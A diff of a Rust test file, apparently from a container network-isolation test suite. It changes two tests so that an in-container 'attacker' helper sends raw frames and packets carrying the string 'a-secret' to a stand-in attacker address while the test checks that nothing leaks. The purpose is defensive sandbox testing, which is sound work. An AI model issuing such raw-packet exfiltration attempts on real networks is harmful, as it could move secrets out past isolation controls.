@@ -56,8 +56,10 @@ fn foreign_addresses(bed: &Bed) {
 fn frames(bed: &Bed) {
     let container = bed.sleeper(ARMED);
     nothing_leaks_while(bed, &container, || {
-        let said = container
-            .exec(&format!("attacker frames eth0 {0}; attacker raw {0}; attacker raw 2001:db8:2::66", ATTACKER.v4));
+        let said = container.exec(&format!(
+            "attacker frames eth0 {0} a-secret; attacker raw {0} a-secret; attacker raw 2001:db8:2::66 a-secret",
+            ATTACKER.v4
+        ));
         assert!(
             said.must_succeed().stdout.contains("bypass true: sent"),
             "the attack failed by itself: {}",
@@ -70,7 +72,7 @@ fn default_frames(bed: &Bed) {
     for runtime in RUNTIMES {
         let container = bed.start_with(runtime, &[], &["sleep", "600"]);
         nothing_leaks_while(bed, &container, || {
-            container.exec(&format!("attacker frames eth0 {0}; attacker raw {0}", ATTACKER.v4));
+            container.exec(&format!("attacker frames eth0 {0} a-secret; attacker raw {0} a-secret", ATTACKER.v4));
             denied_probes(&container);
         });
     }
